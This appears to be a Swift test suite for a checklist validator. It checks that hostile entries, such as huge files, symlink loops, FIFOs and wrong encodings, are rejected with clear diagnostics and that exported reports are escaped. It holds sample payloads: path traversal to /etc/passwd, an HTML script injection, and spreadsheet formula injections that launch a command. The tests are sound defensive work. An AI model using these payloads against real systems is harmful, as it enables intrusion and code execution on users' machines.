import Foundation
import Testing
@testable import AuditKit
#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

/// Hostile files inside a checklists folder, validated as one run beside two valid checklists: each
/// must end quickly with a clear diagnostic at its place, and the two valid units must still be
/// read, validated and scored. `HostileInputTests` covers what one file's bytes can do to the
/// loader; this suite covers what a file can do to a run.
@Suite("Hostile files in a run")
struct HostileRunTests {
    /// The two valid checklists every run holds beside the hostile entry.
    static let validNames = ["chengguan-town.yaml", "county-statistics-bureau.yaml"]

    static func checklist(_ name: String) -> URL {
        TestPaths.packageRoot.appendingPathComponent("checklists").appendingPathComponent(name)
    }

    /// A valid checklist's text under another unit id (and so another file name), with `name` as
    /// the unit's name and `extra` appended at the end.
    static func variant(id: String, name: String? = nil, extra: String = "") throws -> String {
        var text = try String(contentsOf: checklist("county-statistics-bureau.yaml"), encoding: .utf8)
            .replacingOccurrences(of: "  id: county-statistics-bureau\n", with: "  id: \(id)\n")
        if let name {
            let quoted = "'" + name.replacingOccurrences(of: "'", with: "''") + "'"
            text = text.replacingOccurrences(of: "  name: XX县统计局\n", with: "  name: \(quoted)\n")
        }
        return text + extra
    }

    /// A folder nested past the system's path limit: the report says the path is too long, not
    /// a bare error number.
    @Test func aPathTooLongIsSaidSo() {
        let (code, message, hint) = ChecklistReader.describe(.other(ENAMETOOLONG))
        #expect(code == .unreadable)
        #expect(message.en == "the path is longer than the system allows (folders nested too deep, or names too long)")
        #expect(hint.zh == "把清单移到层级较浅的文件夹后重试")
    }

    /// One hostile entry: how to make it in the folder, and what its report must say.
    struct Case: Sendable, CustomTestStringConvertible {
        var name: String
        /// The entry's path in the folder; nil when the run must not report it at all.
        var reported: String?
        var expected: [ExpectedDiagnostic]
        /// Text each of its diagnostics' English messages must contain.
        var messageContains: String?
        var make: @Sendable (URL) throws -> Void

        var testDescription: String { name }
    }

    static let cases = commonCases + systemCases

    static let commonCases: [Case] = [
        // Refused from its size alone: the file is sparse, and a read of 50 MB would show.
        Case(name: "a 50 MB file", reported: "huge.yaml", expected: [ExpectedDiagnostic(.tooLarge, line: 1, column: 1)],
             messageContains: "52428800 bytes") { folder in
            let url = folder.appendingPathComponent("huge.yaml")
            #expect(FileManager.default.createFile(atPath: url.path, contents: Data("format: five-haves/1\n".utf8)))
            let handle = try FileHandle(forWritingTo: url)
            try handle.truncate(atOffset: 50 * 1024 * 1024)
            try handle.close()
        },
        // A million characters on one line, no line break anywhere: one value too long for a
        // message, so the diagnostic must not quote it whole.
        Case(name: "a 1 MB single line", reported: "one-line.yaml",
             expected: [ExpectedDiagnostic(.notMapping, line: 1, column: 1)]) { folder in
            try Data(String(repeating: "x", count: 1_000_000).utf8).write(to: folder.appendingPathComponent("one-line.yaml"))
        },
        Case(name: "a 1 MB single-line mapping", reported: "one-line-key.yaml",
             expected: [ExpectedDiagnostic(.unknownFormat, line: 1, column: 10, keyPath: "format")]
                + ["activities", "equipment", "funding", "inspection", "rules", "unit", "venue"].map {
                    ExpectedDiagnostic(.missingKey, line: 1, column: 1, keyPath: $0)
                }) { folder in
            let text = "{format: " + String(repeating: "x", count: 1_000_000) + "}"
            try Data(text.utf8).write(to: folder.appendingPathComponent("one-line-key.yaml"))
        },
        // A line of a million characters in an otherwise valid checklist: the value is offered to
        // the "did you mean" search over the categories, which must not take long over it.
        Case(name: "a 1 MB line in a checklist", reported: "long-line.yaml",
             expected: [ExpectedDiagnostic(.notInChoices, line: 6, column: 13, keyPath: "unit.category")]) { folder in
            let text = try variant(id: "long-line")
                .replacingOccurrences(of: "  category: department\n", with: "  category: " + String(repeating: "x", count: 1_000_000) + "\n")
            try Data(text.utf8).write(to: folder.appendingPathComponent("long-line.yaml"))
        },
        Case(name: "UTF-16 with a byte-order mark", reported: "utf16.yaml",
             expected: [ExpectedDiagnostic(.notUTF8, line: 1, column: 1)], messageContains: "UTF-16") { folder in
            let text = try variant(id: "utf16")
            var bytes: [UInt8] = [0xFF, 0xFE]
            for unit in text.utf16 { bytes += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
            try Data(bytes).write(to: folder.appendingPathComponent("utf16.yaml"))
        },
        // `  name: XX县气象局` in GBK: 县 at column 11 of line 4.
        Case(name: "a GBK file", reported: "gbk.yaml",
             expected: [ExpectedDiagnostic(.notUTF8, line: 4, column: 11)], messageContains: "GBK") { folder in
            try FileManager.default.copyItem(atPath: DiagnosticFixtures.path("fh101-gbk.yaml"),
                                             toPath: folder.appendingPathComponent("gbk.yaml").path)
        },
        // A link to itself; and a link back to the folder, which the search does not follow.
        Case(name: "a symbolic link loop", reported: "loop.yaml",
             expected: [ExpectedDiagnostic(.unreadable, line: 1, column: 1)], messageContains: "not a regular file") { folder in
            try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("loop.yaml").path,
                                                       withDestinationPath: "loop.yaml")
            try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("again").path,
                                                       withDestinationPath: ".")
        },
        // Tests run as root, which reads any file whatever its mode: unreadable entries are ones
        // that are not regular files. A FIFO with no writer must not block the run.
        Case(name: "a FIFO named like a checklist", reported: "fifo.yaml",
             expected: [ExpectedDiagnostic(.unreadable, line: 1, column: 1)], messageContains: "not a regular file") { folder in
            #expect(mkfifo(folder.appendingPathComponent("fifo.yaml").path, 0o644) == 0)
        },
        Case(name: "a link to an endless device", reported: "zero.yaml",
             expected: [ExpectedDiagnostic(.unreadable, line: 1, column: 1)], messageContains: "not a regular file") { folder in
            try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("zero.yaml").path,
                                                       withDestinationPath: "/dev/zero")
        },
        Case(name: "a link to a folder named like a checklist", reported: "folder-link.yaml",
             expected: [ExpectedDiagnostic(.unreadable, line: 1, column: 1)], messageContains: "not a regular file") { folder in
            try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("folder-link.yaml").path,
                                                       withDestinationPath: ".")
        },
        // A folder named like a checklist is a folder: searched, not read, and empty here.
        Case(name: "a folder named x.yaml", reported: nil, expected: []) { folder in
            try FileManager.default.createDirectory(at: folder.appendingPathComponent("x.yaml"), withIntermediateDirectories: false)
        },
        // A file listed, then gone before it is read: a link whose target does not exist.
        Case(name: "a file that disappears during the run", reported: "gone.yaml",
             expected: [ExpectedDiagnostic(.unreadable, line: 1, column: 1)], messageContains: "vanished") { folder in
            try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("gone.yaml").path,
                                                       withDestinationPath: "missing")
        },
        // A key written 50,000 times: the first 100 problems in the file are listed and one error
        // counts the rest, instead of 50,000 diagnostics, each longer than its line, in every report.
        Case(name: "a key repeated 50,000 times", reported: "repeated.yaml",
             expected: [ExpectedDiagnostic(.unknownKey, line: 1, column: 1, keyPath: "a")]
                + ["activities", "equipment", "format", "funding", "inspection", "rules", "unit", "venue"].map {
                    ExpectedDiagnostic(.missingKey, line: 1, column: 1, keyPath: $0)
                }
                + (2...92).map { ExpectedDiagnostic(.duplicateKey, line: $0, column: 1, keyPath: "a") }
                + [ExpectedDiagnostic(.tooManyProblems, line: 93, column: 1, keyPath: "a")]) { folder in
            try Data(String(repeating: "a: \n", count: 50_000).utf8).write(to: folder.appendingPathComponent("repeated.yaml"))
        },
        // 20,000 different unknown keys: each is looked up among the keys before it (written
        // twice?) and among those it could have been indented under, which took minutes while
        // both were a scan of every earlier key (a megabyte of them, over two minutes).
        Case(name: "20,000 different unknown keys", reported: "unknown-keys.yaml",
             expected: [ExpectedDiagnostic(.unknownKey, line: 1, column: 1, keyPath: "k000000")]
                + ["activities", "equipment", "format", "funding", "inspection", "rules", "unit", "venue"].map {
                    ExpectedDiagnostic(.missingKey, line: 1, column: 1, keyPath: $0)
                }
                + (2...92).map { ExpectedDiagnostic(.unknownKey, line: $0, column: 1, keyPath: String(format: "k%06d", $0 - 1)) }
                + [ExpectedDiagnostic(.tooManyProblems, line: 93, column: 1, keyPath: "k000092")]) { folder in
            let text = (0..<20_000).map { String(format: "k%06d: 1\n", $0) }.joined()
            try Data(text.utf8).write(to: folder.appendingPathComponent("unknown-keys.yaml"))
        },
        // A valid checklist but for evidence that leaves the tree (lines 180 and 182 of the variant).
        Case(name: "evidence paths that leave the tree", reported: "evidence-escape.yaml",
             expected: [ExpectedDiagnostic(.evidenceOutsideTree, line: 180, column: 11, keyPath: "evidence[0].file"),
                        ExpectedDiagnostic(.evidenceOutsideTree, line: 182, column: 11, keyPath: "evidence[1].file")],
             messageContains: "leaves the checklists tree") { folder in
            let text = try variant(id: "evidence-escape", extra: """
                evidence:
                  - file: ../../etc/passwd
                    about: venue
                  - file: /etc/passwd
                    about: funding

                """)
            try Data(text.utf8).write(to: folder.appendingPathComponent("evidence-escape.yaml"))
        },
        // `.` beside a checklist at the top of the tree is the tree's own folder: inside it, and
        // not a file.
        Case(name: "evidence that is the tree's own folder", reported: "evidence-dot.yaml",
             expected: [ExpectedDiagnostic(.evidenceMissing, line: 180, column: 11, keyPath: "evidence[0].file")],
             messageContains: "is a folder, not a file") { folder in
            let text = try variant(id: "evidence-dot", extra: "evidence:\n  - file: .\n    about: venue\n")
            try Data(text.utf8).write(to: folder.appendingPathComponent("evidence-dot.yaml"))
        },
    ]

    /// Entries only some systems can make: a name that is not UTF-8 (Linux takes any bytes; a Mac's
    /// file system refuses them).
    #if os(Linux)
    static let systemCases: [Case] = [
        // A name in GBK (河西, as a zip made on Windows unpacks): listed with � for its bytes, it
        // cannot be opened by that name, and the report says why rather than "vanished".
        Case(name: "a file whose name is GBK", reported: "\u{FFFD}\u{FFFD}\u{FFFD}\u{FFFD}.yaml",
             expected: [ExpectedDiagnostic(.unreadable, line: 1, column: 1)], messageContains: "the name is not UTF-8") { folder in
            let name = Array(folder.path.utf8) + [0x2F, 0xBA, 0xD3, 0xCE, 0xF7] + Array(".yaml".utf8) + [0]
            let descriptor = name.withUnsafeBufferPointer { open(UnsafeRawPointer($0.baseAddress!).assumingMemoryBound(to: CChar.self),
                                                                 O_WRONLY | O_CREAT, 0o644) }
            #expect(descriptor >= 0)
            close(descriptor)
        },
    ]
    #else
    static let systemCases: [Case] = []
    #endif

    @Test("A hostile entry gets its diagnostic and the other units are still processed", arguments: cases)
    func hostileEntry(_ hostile: Case) throws {
        try ScratchFolder.with { folder in
            for name in Self.validNames {
                try FileManager.default.copyItem(at: Self.checklist(name), to: folder.appendingPathComponent(name))
            }
            try hostile.make(folder)
            let clock = ContinuousClock()
            var result: ValidationRun?
            let elapsed = try clock.measure {
                let inputs = try InputDiscovery.files(in: [folder.path])
                result = ValidationRun.validate(inputs, reader: ChecklistReader(catalogues: .builtIn))
            }
            let run = try #require(result)
            #expect(elapsed < .seconds(10), "took \(elapsed)")

            let names = run.reports.map { URL(fileURLWithPath: $0.path).lastPathComponent }
            #expect(names == (Self.validNames + [hostile.reported].compactMap { $0 }).sorted())
            try Self.expectValidAndScored(run)

            guard let reported = hostile.reported else { return }
            let report = try #require(run.reports.first { $0.path.hasSuffix("/" + reported) })
            expectAgreement(report.diagnostics, hostile.expected, in: hostile.name)
            // A checklist is kept exactly when none of its diagnostics is an error (FH407 is a warning).
            #expect((report.checklist == nil) == hostile.expected.contains { $0.code.severity == .error })
            for diagnostic in report.diagnostics {
                #expect(diagnostic.file == report.path)
                // Located, and short enough to read: a diagnostic never quotes a huge value whole.
                #expect(diagnostic.message.en.utf8.count < 1_000 && diagnostic.message.zh.utf8.count < 1_000,
                        "\(hostile.name): a message of \(diagnostic.message.en.utf8.count) bytes")
                #expect(!diagnostic.message.en.contains("root:"), "evidence is never read")
                if let text = hostile.messageContains {
                    #expect(diagnostic.message.en.contains(text), "\(hostile.name): \(diagnostic.message.en)")
                }
            }
        }
    }

    /// The two valid checklists of the folder were read, are valid, and score under the built-in standard.
    static func expectValidAndScored(_ run: ValidationRun, sourceLocation: SourceLocation = #_sourceLocation) throws {
        for name in validNames {
            let report = try #require(run.reports.first { $0.path.hasSuffix("/" + name) }, sourceLocation: sourceLocation)
            expectAgreement(report.diagnostics, [], in: name, sourceLocation: sourceLocation)
            let checklist = try #require(report.checklist, "\(name) was not kept", sourceLocation: sourceLocation)
            let card = Scorer(standard: .builtIn).score(checklist)
            #expect(card.unitID + ".yaml" == name, sourceLocation: sourceLocation)
            #expect(card.haves.count == 5 && card.scoreTenths > 0, sourceLocation: sourceLocation)
        }
    }

    // MARK: - Unit names through `audit run`

    /// Unit names, and the CSV field each must become: HTML is left as text, formulas get a
    /// leading `'` so spreadsheets show them as text, and fields with quotes or commas are quoted.
    static let hostileNames: [(id: String, name: String, csv: String)] = [
        ("html-name", #"<script>alert("x")</script><img src=x onerror=alert(1)>"#,
         #""<script>alert(""x"")</script><img src=x onerror=alert(1)>""#),
        ("formula-equals", #"=HYPERLINK("http://example.invalid/?q="&A1,"点此查看")"#,
         #""'=HYPERLINK(""http://example.invalid/?q=""&A1,""点此查看"")""#),
        ("formula-plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("formula-minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ]

    @Test("Unit names carrying HTML and formulas are escaped in summary.html and neutralised in the CSV files")
    func hostileNamesThroughRun() throws {
        try ScratchFolder.with { folder in
            let input = folder.appendingPathComponent("checklists")
            try FileManager.default.createDirectory(at: input, withIntermediateDirectories: false)
            for name in Self.validNames {
                try FileManager.default.copyItem(at: Self.checklist(name), to: input.appendingPathComponent(name))
            }
            for (id, name, _) in Self.hostileNames {
                try Data(try Self.variant(id: id, name: name).utf8).write(to: input.appendingPathComponent("\(id).yaml"))
            }
            let out = folder.appendingPathComponent("reports")
            let outcome = try AuditBinary.run(["run", input.path, "--out", out.path, "--lang", "en", "--quiet"])
            #expect(outcome.status == 0, "\(outcome.stderr)")

            let html = try String(contentsOf: out.appendingPathComponent("summary.html"), encoding: .utf8)
            #expect(html.contains("alert"), "the unit is in summary.html")
            for tag in ["<script", "<img", "onerror=alert(1)>"] {
                #expect(!html.lowercased().contains(tag), "summary.html carries \(tag) unescaped")
            }
            #expect(html.contains("&lt;script&gt;") || html.contains("&amp;lt;script&amp;gt;"))

            for file in ["summary.csv", "rectifications.csv"] {
                let csv = try String(contentsOf: out.appendingPathComponent(file), encoding: .utf8)
                var seen = 0
                for (id, _, expected) in Self.hostileNames where csv.contains(id) {
                    #expect(csv.contains("," + expected + ","), "\(file): \(id)'s name is not neutralised")
                    seen += 1
                }
                #expect(seen > 0, "\(file) lists none of the hostile units")
                for field in Self.csvFields(csv) {
                    #expect(!(field.first.map { "=+-@".contains($0) } ?? false) || Double(field) != nil,
                            "\(file): a field starts a formula: \(field)")
                }
            }
            let units = try String(contentsOf: out.appendingPathComponent("summary.csv"), encoding: .utf8)
            for id in Self.validNames.map({ String($0.dropLast(5)) }) + Self.hostileNames.map(\.id) {
                #expect(units.contains("," + id + ","), "summary.csv lacks \(id)")
            }
        }
    }

    /// A file past the limit of 100 problems whose unit id another file also claims: FH305 is
    /// listed among the first 100 (the unit id comes early) and the problem it displaces is
    /// counted with the rest, so the file still lists 100 and one diagnostic counts the others.
    @Test func aRepeatedUnitIDInAFileOverTheLimitKeepsTheLimit() throws {
        try ScratchFolder.with { folder in
            let unknown = (0..<300).map { String(format: "k%03d: 1\n", $0) }.joined()
            try Data(try Self.variant(id: "shared-id", extra: unknown).utf8).write(to: folder.appendingPathComponent("big.yaml"))
            let reader = ChecklistReader(catalogues: .builtIn)
            let alone = ValidationRun.validate(try InputDiscovery.files(in: [folder.path]), reader: reader).reports[0]
            try Data(try Self.variant(id: "shared-id").utf8).write(to: folder.appendingPathComponent("shared-id.yaml"))
            let run = ValidationRun.validate(try InputDiscovery.files(in: [folder.path]), reader: reader)
            let big = try #require(run.reports.first { $0.path.hasSuffix("/big.yaml") })

            let counters: Set<DiagnosticCode> = [.tooManyProblems, .tooManyWarnings]
            let before = try #require(alone.unlisted)
            let after = try #require(big.unlisted)
            #expect(alone.diagnostics.count == DiagnosticSink.limit + 1)
            #expect(big.diagnostics.count == DiagnosticSink.limit + 1)
            #expect(big.diagnostics.filter { $0.code == .duplicateUnitID }.count == 1)
            #expect(big.diagnostics.filter { counters.contains($0.code) }.count == 1)
            #expect(after.count == before.count + 1, "the problem FH305 displaced is counted")
            let counter = try #require(big.diagnostics.first { counters.contains($0.code) })
            #expect(counter.message == Messages.unlisted(after.count, errors: after.errors))
            #expect(big.diagnostics == big.diagnostics.sorted(by: Diagnostic.ordered))
            let other = try #require(run.reports.first { $0.path.hasSuffix("/shared-id.yaml") })
            #expect(other.diagnostics.map(\.code) == [.duplicateUnitID])
        }
    }

    /// The fields of a CSV text (RFC 4180 quoting), with their quotes removed.
    static func csvFields(_ text: String) -> [String] {
        let scalars = Array(text.unicodeScalars)
        var fields: [String] = []
        var field = ""
        var quoted = false
        var index = 0
        while index < scalars.count {
            let scalar = scalars[index]
            index += 1
            if quoted {
                if scalar != "\"" {
                    field.unicodeScalars.append(scalar)
                } else if index < scalars.count, scalars[index] == "\"" {
                    field.unicodeScalars.append("\"")
                    index += 1
                } else {
                    quoted = false
                }
                continue
            }
            switch scalar {
            case "\"": quoted = true
            case ",", "\n", "\r":
                fields.append(field)
                field = ""
            case "\u{FEFF}": continue
            default: field.unicodeScalars.append(scalar)
            }
        }
        fields.append(field)
        return fields.filter { !$0.isEmpty }
    }
}
